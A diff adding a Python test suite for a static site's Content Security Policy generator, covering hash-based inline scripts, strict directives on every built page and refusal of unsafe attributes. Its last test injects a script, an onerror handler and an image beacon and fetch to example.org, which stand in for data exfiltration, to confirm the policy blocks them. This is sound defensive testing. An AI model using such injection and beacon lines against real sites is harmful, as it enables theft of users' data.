@@ -1,0 +1,87 @@
+"""Each page's Content Security Policy: strict, complete, and true to what the page holds."""
+
+import base64
+import hashlib
+
+import pytest
+from playwright.sync_api import Browser
+
+from macros.policy import PolicyError, protect
+from tests.conftest import SITE
+
+PAGE = '<!doctype html><html lang="de"><head><meta charset="utf-8"><title>x</title>{}</head><body>{}</body></html>'
+
+
+def policy(page: str) -> dict[str, str]:
+    """The directives that a page's meta element names."""
+    content = page.split('http-equiv="Content-Security-Policy" content="')[1].split('"')[0]
+    return dict(directive.strip().split(" ", 1) for directive in content.split(";"))
+
+
+def digest(text: str) -> str:
+    return f"'sha256-{base64.b64encode(hashlib.sha256(text.encode()).digest()).decode()}'"
+
+
+def test_inline_scripts_and_styles_are_named_by_their_hashes() -> None:
+    script, style = 'if (1 < 2 && "ü") run()\n', "p { color: red }"
+    found = policy(protect(PAGE.format(f"<style>{style}</style>", f"<script>{script}</script>")))
+    assert found["script-src"] == f"'self' {digest(script)}"
+    assert found["style-src"] == f"'self' {digest(style)}"
+
+
+def test_data_is_no_script() -> None:
+    data = '<script type="application/json">{"a": 1}</script><script src="a.js"></script>'
+    assert policy(protect(PAGE.format("", data)))["script-src"] == "'self'"
+
+
+def test_a_page_may_be_held_tighter_than_the_others() -> None:
+    tight = {"script-src": "'none'", "style-src": "'none'"}
+    assert policy(protect(PAGE.format("", ""), tight))["script-src"] == "'none'"
+    found = policy(protect(PAGE.format("", "<script>run()</script>"), tight))
+    assert found["script-src"] == digest("run()")
+    assert found["style-src"] == "'none'"
+
+
+def test_the_policy_stands_before_everything_that_it_governs() -> None:
+    page = protect(PAGE.format("<script>run()</script>", ""))
+    assert page.index("Content-Security-Policy") < page.index("<title>") < page.index("<script>")
+
+
+@pytest.mark.parametrize("body", ['<p style="color: red">x</p>', '<p onclick="run()">x</p>'])
+def test_what_no_policy_allows_is_named(body: str) -> None:
+    with pytest.raises(PolicyError, match="<p>"):
+        protect(PAGE.format("", body))
+
+
+def test_a_page_without_its_charset_is_refused() -> None:
+    with pytest.raises(PolicyError, match="charset"):
+        protect("<!doctype html><title>x</title>")
+
+
+@pytest.mark.parametrize("address", [path.relative_to(SITE).as_posix() for path in sorted(SITE.rglob("*.html"))])
+def test_every_built_page_has_a_strict_policy(address: str) -> None:
+    found = policy((SITE / address).read_text(encoding="utf-8"))
+    assert found["default-src"] == found["connect-src"] == found["base-uri"] == found["form-action"] == "'none'"
+    assert not {"'unsafe-inline'", "'unsafe-eval'", "*", "https:", "http:"} & set(" ".join(found.values()).split())
+
+
+def test_a_script_that_somebody_smuggles_in_does_not_run_and_can_send_nothing(browser: Browser, home: str) -> None:
+    refused: list[str] = []
+    with browser.new_context() as context:  # The usual one takes a refusal for a fault of the page.
+        page = context.new_page()
+        page.expose_function("note", lambda directive: refused.append(directive))
+        page.add_init_script("addEventListener('securitypolicyviolation', (event) => note(event.effectiveDirective))")
+        page.goto(f"{home}arbeitsblaetter/vorbereitung.html")
+        page.evaluate(
+            """async () => {
+                const script = document.createElement("script");
+                script.textContent = "window.smuggled = true";
+                document.body.append(script);
+                document.body.insertAdjacentHTML("beforeend", "<img src=x: onerror='window.smuggled = true'>");
+                new Image().src = "https://example.org/?answers";
+                await fetch("https://example.org/").catch(() => {});
+            }"""
+        )
+        while not {"script-src-elem", "script-src-attr", "connect-src", "img-src"} <= set(refused):
+            page.evaluate("new Promise(requestAnimationFrame)")
+        assert page.evaluate("window.smuggled") is None
